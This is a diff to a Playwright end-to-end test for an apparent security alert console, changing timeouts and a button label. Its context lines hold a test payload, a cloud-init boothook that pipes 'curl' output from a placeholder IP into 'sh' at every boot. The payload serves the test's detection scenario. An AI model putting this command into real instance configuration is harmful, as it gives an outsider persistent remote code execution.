@@ -4,6 +4,8 @@ import { attackFile, INTRUDER, VICTIM, writeFiles } from './log-files';
 import { ADMIN, watchErrors } from './support/console';
 import { startConsole } from './support/start-console';
 
+test.use({ actionTimeout: 20_000 });
+
 const REASON =
   'The key of jonas.falk was used from an unknown address; the script fetches and runs a file at every boot.';
 const PAYLOAD = Buffer.from('#cloud-boothook\n#!/bin/sh\ncurl -s http://203.0.113.99/agent | sh\n').toString(
@@ -23,7 +25,7 @@ const ANSWERS: readonly [step: string, answer: string, note?: string][] = [
 ];
 
 test('from the set-up link to a decided alert that a colleague sees alike', async ({ browser }, info) => {
-  test.setTimeout(300_000);
+  test.setTimeout(420_000);
   const started = await startConsole();
   try {
     const page = await openPage(browser, started.url);
@@ -66,7 +68,7 @@ test('from the set-up link to a decided alert that a colleague sees alike', asyn
     await test.step('the guide’s required steps are answered', async () => {
       await page.getByRole('button', { name: 'Close…' }).click();
       await expect(page.getByText('required steps are still open')).toBeVisible();
-      await page.getByRole('button', { name: 'Not yet' }).click();
+      await page.getByRole('button', { name: 'Keep open' }).click();
       for (const [step, answer, note] of ANSWERS) await answerStep(page, step, answer, note);
       await expect(page.getByText('Asked Jonas by phone').first()).toBeVisible();
     });
